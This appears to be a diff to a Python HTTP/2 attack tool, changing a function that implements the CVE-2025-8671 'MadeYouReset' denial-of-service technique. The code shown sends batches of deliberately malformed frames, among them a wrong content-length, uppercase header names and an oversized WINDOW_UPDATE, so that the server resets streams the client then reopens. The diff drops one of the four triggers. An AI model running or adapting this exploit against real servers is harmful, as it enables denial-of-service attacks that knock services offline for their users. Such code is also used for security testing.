@@ -53,21 +53,18 @@ def rapid_reset(attacker, wire) -> None:
 
 
 def made_reset(attacker, wire) -> None:
-    """CVE-2025-8671: four ways to have the server reset a stream that we then open again."""
+    """CVE-2025-8671: three ways to have the server reset a stream that we then open again."""
     data = b""
     for turn in range(BATCH):
-        extra = [("content-length", "3")] if turn % 4 == 0 else []
-        extra = [("Upper", "case")] if turn % 4 == 1 else extra
+        extra = [("content-length", "3")] if turn % 3 == 0 else []
+        extra = [("Upper", "case")] if turn % 3 == 1 else extra
         head = wire.headers(wire.head(extra=extra))
         data += head.serialize()
-        if turn % 4 == 0:
+        if turn % 3 == 0:
             data += DataFrame(head.stream_id, b"longer", flags=["END_STREAM"]).serialize()
-        if turn % 4 == 2:
+        if turn % 3 == 2:
             window = WindowUpdateFrame(head.stream_id, window_increment=2**31 - 1)
             data += window.serialize()
-        if turn % 4 == 3:
-            zero = WindowUpdateFrame(head.stream_id, window_increment=1).serialize()
-            data += zero[:-4] + bytes(4)
     wire.send(data)
     wire.frames(0.001)
 
